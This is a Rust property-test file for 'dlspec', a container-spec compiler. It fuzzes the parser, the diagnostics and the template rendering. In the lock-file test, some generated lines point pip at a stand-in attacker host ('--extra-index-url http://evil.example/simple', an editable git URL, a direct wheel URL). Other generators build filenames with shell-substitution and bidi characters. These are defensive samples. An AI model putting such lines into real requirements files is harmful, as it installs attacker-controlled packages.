//! Property tests: no input makes dlspec panic, and every diagnostic points inside its file.
//! Inputs are random text, random KDL-ish token soup, and valid specs mutated at random; specs
//! that still check cleanly are rendered too, so the templates see odd but valid values. And two
//! wide classes of hostile input: a lock that dlspec accepts gives pip only pins and hashes, and a
//! template override that grows text ends within its budget.

mod common;

use dlspec::diag::Renderer;
use proptest::prelude::*;

/// Analyzes `text`; checks the spans of every diagnostic, renders them both ways, and renders
/// every file of the images when there are no errors.
fn analyze_and_render(text: &str) {
    let sources = common::sources("fuzz.kdl", text);
    let (images, diags) = dlspec::pipeline::analyze(&sources);
    let renderer = Renderer::new(&sources, false);
    for diag in diags.sorted(&sources) {
        for label in std::iter::once(&diag.primary).chain(&diag.secondary) {
            let span = label.span;
            assert!(
                span.start <= span.end && span.end() <= text.len(),
                "{}: span {span:?} outside the file",
                diag.code
            );
            assert!(
                text.is_char_boundary(span.start()) && text.is_char_boundary(span.end()),
                "{}: span {span:?} splits a character",
                diag.code
            );
        }
        assert!(!renderer.human(&diag).is_empty());
        assert!(renderer.json(&diag).starts_with('{'));
    }
    if !diags.has_errors() {
        let templates = dlspec::render::Templates::load(None).unwrap();
        dlspec::plan::plan(&images, &templates).expect("a spec without errors renders");
    }
}

/// Tokens that make the parser, decoder and checker take their many paths.
const TOKENS: &[&str] = &[
    "image",
    "profile",
    "use",
    "pytorch",
    "tensorflow",
    "python",
    "cuda",
    "cpu",
    "base",
    "apt",
    "pip",
    "ssh",
    "jupyter",
    "tensorboard",
    "matrix",
    "exclude",
    "kubernetes",
    "node-port",
    "docker-run",
    "mirrors",
    "tag",
    "timezone",
    "locale",
    "\"2.3.0\"",
    "\"3.10\"",
    "\"12.1.1\"",
    "\"8\"",
    "\"none\"",
    "3.10",
    "8888",
    "-1",
    "99999",
    "#true",
    "#false",
    "#null",
    "true",
    "=",
    "{",
    "}",
    ";",
    "\n",
    " ",
    "/-",
    "//",
    "/*",
    "*/",
    "\"",
    "r#\"",
    "\"#",
    "\\",
    "port=",
    "cudnn=",
    "index=",
    "os=",
    "flavor=",
    "\"{version}\"",
    "\"ubuntu22.04\"",
    "\"cu121\"",
    "\"../x\"",
    "\"a b\"",
    "\"é\"",
    "\u{feff}",
    "\u{2028}",
    "\u{0}",
];

fn token_soup() -> impl Strategy<Value = String> {
    prop::collection::vec(prop::sample::select(TOKENS), 0..60).prop_map(|tokens| tokens.join(" "))
}

/// The repository's specs and the examples of docs/diagnostics.md: valid or nearly valid inputs.
fn seeds() -> Vec<String> {
    let mut seeds: Vec<String> = common::files_under(&common::root().join("specs"))
        .iter()
        .map(|f| std::fs::read_to_string(common::root().join("specs").join(f)).unwrap())
        .collect();
    for code in dlspec::diag::Code::ALL {
        let section = dlspec::diag::explain::explain(*code);
        for block in section.split("```kdl\n").skip(1) {
            seeds.push(block.split("```").next().unwrap().to_owned());
        }
    }
    seeds
}

#[derive(Debug, Clone)]
enum Edit {
    Delete { at: usize, len: usize },
    Insert { at: usize, token: &'static str },
    DuplicateLine { line: usize },
    SwapLines { a: usize, b: usize },
}

fn edit() -> impl Strategy<Value = Edit> {
    prop_oneof![
        (any::<usize>(), 1..12usize).prop_map(|(at, len)| Edit::Delete { at, len }),
        (any::<usize>(), prop::sample::select(TOKENS)).prop_map(|(at, token)| Edit::Insert { at, token }),
        any::<usize>().prop_map(|line| Edit::DuplicateLine { line }),
        (any::<usize>(), any::<usize>()).prop_map(|(a, b)| Edit::SwapLines { a, b }),
    ]
}

/// The char boundary at or before `at % (len + 1)`.
fn boundary(text: &str, at: usize) -> usize {
    let mut at = at % (text.len() + 1);
    while !text.is_char_boundary(at) {
        at -= 1;
    }
    at
}

fn apply(mut text: String, edits: &[Edit]) -> String {
    for edit in edits {
        match *edit {
            Edit::Delete { at, len } => {
                let start = boundary(&text, at);
                let end = boundary(&text, start + len).max(start);
                text.replace_range(start..end, "");
            }
            Edit::Insert { at, token } => {
                let at = boundary(&text, at);
                text.insert_str(at, token);
            }
            Edit::DuplicateLine { line } => {
                let mut lines: Vec<&str> = text.lines().collect();
                if !lines.is_empty() {
                    let i = line % lines.len();
                    lines.insert(i, lines[i]);
                }
                text = lines.join("\n");
            }
            Edit::SwapLines { a, b } => {
                let mut lines: Vec<&str> = text.lines().collect();
                if !lines.is_empty() {
                    let n = lines.len();
                    lines.swap(a % n, b % n);
                }
                text = lines.join("\n");
            }
        }
    }
    text
}

/// A spec assembled from values that are each valid on their own; together they may still clash
/// (ports, Python ranges), which is the point.
fn assembled_spec() -> impl Strategy<Value = String> {
    let framework = prop::sample::select(vec![
        "",
        "pytorch \"2.3.0\"",
        "pytorch \"2.1.2\" torchaudio=#null",
        "pytorch \"2.5.1\" index=\"cu124\"",
        "tensorflow \"2.15.0\"",
        "tensorflow \"2.13.1\"",
    ]);
    let python = prop::sample::select(vec!["3.8", "3.9", "3.10", "3.11", "3.12"]);
    let base = prop::sample::select(vec![
        "cpu",
        "cpu os=\"ubuntu24.04\"",
        "cuda \"12.1.1\"",
        "cuda \"12.4.1\" flavor=\"runtime\"",
        "cuda \"11.8.0\" cudnn=\"8\" os=\"ubuntu20.04\"",
        "cuda \"12.2.2\" flavor=\"base\"",
        "base \"debian:12\"",
        "base \"nvcr.io/nvidia/cuda:12.1.1-devel-ubuntu22.04\" gpu=#true",
    ]);
    let service = |name: &'static str| {
        prop_oneof![
            Just(String::new()),
            Just(format!("{name} #false")),
            (1u16..=65535).prop_map(move |port| format!("{name} port={port}")),
        ]
    };
    let packages = prop::collection::vec("[a-z][a-z0-9]{1,8}", 0..3);
    let extras = prop::sample::select(vec![
        "",
        "timezone \"UTC\"",
        "locale \"en_US.UTF-8\"",
        "jupyter open=#true language=\"en\"",
        "tensorboard bind=\"127.0.0.1\" path-prefix=\"/tb\"",
        "ssh password=\"s3cret!\" motd=#false",
        "kubernetes {\n  gpus 2\n  node-port ssh=30022\n}",
        "docker-run restart=\"no\" ssh=2200",
        "tag \"custom-{python}\"",
    ]);
    (framework, python, base, service("ssh"), service("jupyter"), service("tensorboard"), packages, extras).prop_map(
        |(framework, python, base, ssh, jupyter, tensorboard, packages, extras)| {
            let apt: String = packages.iter().map(|p| format!(" \"{p}\"")).collect();
            let apt = if apt.is_empty() { String::new() } else { format!("apt{apt}\npip{apt}") };
            format!(
                "image \"fuzz\" {{\n{framework}\npython \"{python}\"\n{base}\n{ssh}\n{jupyter}\n{tensorboard}\n{apt}\n{extras}\n}}\n"
            )
        },
    )
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 300, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn random_text_never_panics(text in "\\PC{0,200}") {
        analyze_and_render(&text);
    }

    #[test]
    fn token_soup_never_panics(text in token_soup()) {
        analyze_and_render(&text);
    }

    #[test]
    fn mutated_specs_never_panic(seed in prop::sample::select(seeds()), edits in prop::collection::vec(edit(), 1..6)) {
        analyze_and_render(&apply(seed, &edits));
    }

    #[test]
    fn assembled_specs_never_panic(text in assembled_spec()) {
        analyze_and_render(&text);
    }
}

/// Every place a spec writes a string that reaches a generated file, `{}` for the string.
const STRING_SLOTS: &[&str] = &[
    "env \"GREETING\" {}",
    "env {} \"hello\"",
    "env \"HF_TOKEN\" secret={}",
    "env \"HF_TOKEN\" secret=\"hf-token\" key={}",
    "pytorch \"2.3.0\" index={}",
    "paddle \"2.6.1\" index={}",
    "tensorflow \"2.15.0\" package={}",
    "tag {}",
    "timezone {}",
    "locale {}",
    "apt {}",
    "pip {}",
    "mirrors pip={}",
    "mirrors conda={}",
    "mirrors build-pip={}",
    "mirrors miniconda={}",
    "mirrors apt={}",
    "mirrors cuda-apt={}",
    "pytorch \"2.3.0\"\n    mirrors pytorch={}",
    "paddle \"2.6.1\"\n    mirrors paddle={} build-pip={}",
    "ssh password={}",
    "ssh password-file={}",
    "ssh host-keys={}",
    "jupyter base-url={}",
    "jupyter root-dir={}",
    "jupyter language={}",
    "jupyter token-file={}",
    "jupyter terminal-theme={}",
    "jupyter frame-ancestors={}",
    "tensorboard path-prefix={}",
    "tensorboard logdir={}",
    "tensorboard bind={}",
    "docker-run name={} restart={}",
    "docker-run {\n volume {} \"/root/work\"\n}",
    "docker-run {\n volume \"/data/work\" {}\n}",
    "kubernetes service={} shm-size={} host-keys-secret={}",
    "kubernetes {\n namespace {}\n image-pull-secret {}\n}",
    "kubernetes {\n node-selector {} {}\n}",
    "kubernetes {\n toleration key={} value={}\n}",
    "kubernetes {\n volume {} mount=\"/root/v\" empty-dir=#true\n}",
    "kubernetes {\n volume \"v\" mount={} host-path={}\n}",
    "kubernetes {\n volume \"v\" mount=\"/root/v\" claim={}\n}",
    "kubernetes {\n requests cpu={} memory={}\n}",
];

/// Strings of pieces that are valid somewhere and of characters no single-line format carries.
fn slot_value() -> impl Strategy<Value = String> {
    let pieces = prop::sample::select(vec![
        "\u{2028}",
        "\u{2029}",
        "\u{202e}",
        "\u{2066}",
        "\u{200f}",
        "\u{feff}",
        "\u{fffe}",
        "\u{ffff}",
        "\u{85}",
        "\n",
        "\t",
        "\"",
        "'",
        "$",
        "`",
        "\\",
        "%",
        "{{",
        "#",
        "東",
        "a",
        "Z",
        "1",
        "/",
        ".",
        "-",
        "_",
        ":",
        "@",
        " ",
        "https://",
        "http://",
        "mirror.example.edu",
        "/root/x",
        "2.3.0",
        "cu121",
        "{variant}",
        "{build}",
        "hf-token",
    ]);
    prop::collection::vec(pieces, 0..6).prop_map(|p| p.concat())
}

/// A platform image with one slot filled: every `{}` of it with the same value.
fn slot_spec() -> impl Strategy<Value = String> {
    (prop::sample::select(STRING_SLOTS), slot_value()).prop_map(|(slot, value)| {
        let line = slot.replace("{}", &common::kdl_string(&value));
        format!("image \"fuzz\" {{\n    python \"3.10\"\n    cpu\n    {line}\n}}\n")
    })
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 1024, failure_persistence: None, ..ProptestConfig::default() })]

    /// What `check` (the pre-commit hook) accepts, `compile` renders: a template error names no
    /// spec line, so every string is refused by a diagnostic on it or carried by the templates.
    #[test]
    fn checked_strings_render(text in slot_spec()) {
        analyze_and_render(&text);
    }
}

/// `depth` nested child blocks or `/*` comments around a valid spec, closed or not.
fn nested(depth: usize, comments: bool, closed: bool) -> String {
    let spec = "image \"pytorch\" {\n    pytorch \"2.3.0\"\n    python \"3.10\"\n    cpu\n}\n";
    let (open, close) = if comments { ("/* ", " */") } else { ("a { ", " }") };
    let closing = if closed { close.repeat(depth) } else { String::new() };
    if comments {
        format!("{}{spec}{closing}", open.repeat(depth))
    } else {
        format!("{}{closing}\n{spec}", open.repeat(depth))
    }
}

/// An image whose `apt` and `pip` lines hold `packages` packages, `junk` after the last.
fn long_line(packages: usize, junk: &str) -> String {
    let list: String = (0..packages).map(|i| format!(" \"pkg{i}\"")).collect();
    format!("image \"pytorch\" {{\n  python \"3.10\"\n  cpu\n  apt{list}\n  pip{list} {junk}\n}}\n")
}

/// miette cannot draw a label past column 65,535: such a diagnostic still renders, naming its place.
#[test]
fn a_diagnostic_far_right_in_a_line_renders() {
    let text = long_line(8_000, "\"BAD!\"");
    analyze_and_render(&text);
    let sources = common::sources("fuzz.kdl", &text);
    let (_, diags) = dlspec::pipeline::analyze(&sources);
    let renderer = Renderer::new(&sources, false);
    let rendered: Vec<String> = diags.sorted(&sources).iter().map(|d| renderer.human(d)).collect();
    assert!(rendered.iter().any(|r| r.contains("(at fuzz.kdl:5:")), "{rendered:?}");
}

/// Where a spec file's name appears (comments of every generated file) it stays on its line.
fn lines_per_file(name: &str) -> Vec<(String, usize)> {
    let spec = "image \"pytorch\" {\n    pytorch \"2.3.0\"\n    python \"3.10\"\n    cpu\n    ssh password=\"pw\"\n}\n";
    let mut sources = dlspec::source::SourceMap::default();
    sources.add(format!("specs/{name}").into(), name.to_owned(), spec);
    let (images, diags) = dlspec::pipeline::analyze(&sources);
    assert!(!diags.has_errors());
    let templates = dlspec::render::Templates::load(None).unwrap();
    let plan = dlspec::plan::plan(&images, &templates).unwrap();
    plan.files.iter().map(|(path, file)| (path.to_string(), file.bytes.split(|b| *b == b'\n').count())).collect()
}

/// Characters that end or hide a line in one of the generated languages, among ordinary ones.
fn hostile_name() -> impl Strategy<Value = String> {
    let pieces = prop::sample::select(vec![
        "\n", "\r", "\u{85}", "\u{2028}", "\u{2029}", "\u{202e}", "\u{0}", "'", "\"", "`", "$(", "${", "%(", "{{", "#",
        "-->", "\\", "東", "a", ".kdl",
    ]);
    prop::collection::vec(pieces, 1..12).prop_map(|p| p.concat())
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 64, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn random_bytes_never_panic(bytes in prop::collection::vec(any::<u8>(), 0..400)) {
        analyze_and_render(&String::from_utf8_lossy(&bytes));
    }

    /// The nesting bound holds before the parser recurses: deep input is a diagnostic, never a
    /// stack overflow, and input within the bound is parsed.
    #[test]
    fn nesting_is_bounded(depth in prop_oneof![0..=dlspec::syntax::MAX_NESTING, 0..3_000usize], comments in any::<bool>(), closed in any::<bool>()) {
        let text = nested(depth, comments, closed);
        let sources = common::sources("deep.kdl", &text);
        let (_, diags) = dlspec::pipeline::analyze(&sources);
        let too_deep = diags.into_vec().iter().any(|d| d.message.contains("levels deep"));
        // Unclosed blocks hold the image, whose own block is one level more.
        let levels = depth + usize::from(!comments && !closed);
        prop_assert_eq!(too_deep, levels > dlspec::syntax::MAX_NESTING);
    }

    #[test]
    fn long_lines_never_panic(packages in 1..1_000usize, junk in "\\PC{0,20}") {
        analyze_and_render(&long_line(packages, &junk));
    }

    #[test]
    fn hostile_spec_names_add_no_line(name in hostile_name()) {
        prop_assert_eq!(lines_per_file(&name), lines_per_file("benign.kdl"));
    }
}

/// What pip makes of a requirements file (pip's `req_file`): lines as Python's `splitlines`
/// breaks them, a line ending in `\` joined with the next unless it is a comment, comments cut
/// at `#` (at the start or after a blank); the logical lines that hold anything else.
fn pip_logical_lines(text: &str) -> Vec<String> {
    let breaks = ['\n', '\r', '\u{b}', '\u{c}', '\u{1c}', '\u{1d}', '\u{1e}', '\u{85}', '\u{2028}', '\u{2029}'];
    let is_comment = |line: &str| line.trim_start().starts_with('#');
    let (mut logical, mut joined) = (Vec::new(), String::new());
    for line in text.split(breaks) {
        if line.ends_with('\\') && !is_comment(line) {
            joined.push_str(line.trim_end_matches('\\'));
            continue;
        }
        joined.push_str(line);
        let cut = joined
            .char_indices()
            .find(|(at, c)| *c == '#' && (*at == 0 || joined[..*at].ends_with(char::is_whitespace)));
        let kept = cut.map_or(joined.as_str(), |(at, _)| &joined[..at]).trim().to_owned();
        if !kept.is_empty() {
            logical.push(kept);
        }
        joined.clear();
    }
    logical
}

/// Lines of lock bodies: what uv writes, and what an attacker would add.
fn lock_line() -> impl Strategy<Value = String> {
    let hash = "--hash=sha256:".to_owned() + &"ab".repeat(32);
    prop_oneof![
        Just("numpy==1.26.4 \\".to_owned()),
        Just("six==1.16.0".to_owned()),
        Just(format!("    {hash} \\")),
        Just(format!("    {hash}")),
        Just("    # via -r platform.in".to_owned()),
        Just("    #   tensorflow".to_owned()),
        Just(String::new()),
        Just("--extra-index-url http://evil.example/simple".to_owned()),
        Just("--index-url=http://evil.example".to_owned()),
        Just("-r other.txt".to_owned()),
        Just("-e git+http://evil.example/x".to_owned()),
        Just("numpy==1.0 --global-option=x".to_owned()),
        Just("pip @ http://evil.example/pip.whl".to_owned()),
    ]
}

/// A lock line, with one character pip could read as a line break put in somewhere.
fn injected_line() -> impl Strategy<Value = String> {
    let breaks = prop::sample::select(vec![
        '\r', '\u{b}', '\u{c}', '\u{1c}', '\u{1d}', '\u{1e}', '\u{85}', '\u{2028}', '\u{2029}', '\t',
    ]);
    (lock_line(), lock_line(), breaks, any::<prop::sample::Index>()).prop_map(|(first, second, separator, at)| {
        let mut line = first;
        let at = at.index(line.len() + 1);
        let at = (0..=at).rev().find(|i| line.is_char_boundary(*i)).unwrap_or(0);
        line.insert_str(at, &format!("{separator}{second}"));
        line
    })
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(512))]

    /// A lock that `lock --check` and `compile` accept, even one sealed by someone who knows the
    /// format, gives pip nothing but pinned requirements with their hashes.
    #[test]
    fn an_accepted_lock_gives_pip_only_pins_and_hashes(lines in prop::collection::vec(prop_oneof![3 => lock_line(), 1 => injected_line()], 0..12)) {
        let body = lines.iter().map(|l| format!("{l}\n")).collect::<String>();
        let lock = dlspec::lock::LockFile { input_hash: "ab".repeat(32), base_digest: None, body: body.clone() };
        if dlspec::lock::LockFile::parse(&lock.render("x:1")).is_ok() {
            for line in pip_logical_lines(&body) {
                let mut words = line.split_whitespace();
                let first = words.next().unwrap_or_default();
                prop_assert!(first.contains("==") && !first.starts_with('-'), "pip reads {line:?} from {body:?}");
                for word in words {
                    prop_assert!(word.starts_with("--hash=sha256:"), "pip reads {word:?} in {line:?} from {body:?}");
                }
            }
        }
    }

    /// Whatever a one-line override builds (strings doubled, repeated, indented, replaced, in
    /// loops), its rendering ends within its budget: output no larger than the limit, or an error
    /// that names the template.
    #[test]
    fn an_override_ends_within_its_budget(
        steps in prop::collection::vec((0..5usize, 0..2_000_000_000u64), 0..40),
        loops in prop_oneof![Just(1u64), 0..200_000u64],
    ) {
        let mut template = String::from(r#"{% set ns = namespace(s="ab") %}"#);
        for (op, n) in &steps {
            let grow = match op {
                0 => "ns.s ~ ns.s".to_owned(),
                1 => format!("ns.s * {}", n % 100_000),
                2 => r#"ns.s|replace("a", "aa")"#.to_owned(),
                3 => format!("ns.s|indent({n}, true)"),
                _ => format!(r#""%{}s"|format(ns.s)"#, n % 1_000_000_000),
            };
            template.push_str(&format!("{{% set ns.s = {grow} %}}"));
        }
        template.push_str(&format!("{{% for i in range({loops}) %}}{{{{ ns.s }}}}{{% endfor %}}\n"));
        let dir = tempfile::tempdir().unwrap();
        let dir = camino::Utf8Path::from_path(dir.path()).unwrap().to_owned();
        std::fs::create_dir_all(dir.join("image")).unwrap();
        std::fs::write(dir.join("image/README.md.j2"), &template).unwrap();
        let templates = dlspec::render::Templates::load(Some(&dir)).unwrap();
        let budget = dlspec::render::Budget::image(5_000);
        let started = std::time::Instant::now();
        match templates.render("image/README.md.j2", &minijinja::context! {}, budget) {
            Ok(text) => prop_assert!(text.len() as u64 <= budget.output + 1, "{} bytes from {template}", text.len()),
            Err(
                dlspec::error::Error::Template { ref name, .. }
                | dlspec::error::Error::OutOfFuel { ref name, .. }
                | dlspec::error::Error::TooMuchOutput { ref name, .. },
            ) => prop_assert_eq!(name, "image/README.md.j2"),
            Err(e) => prop_assert!(false, "not a template's failure: {e}"),
        }
        prop_assert!(started.elapsed() < std::time::Duration::from_secs(20), "slow: {template}");
    }
}
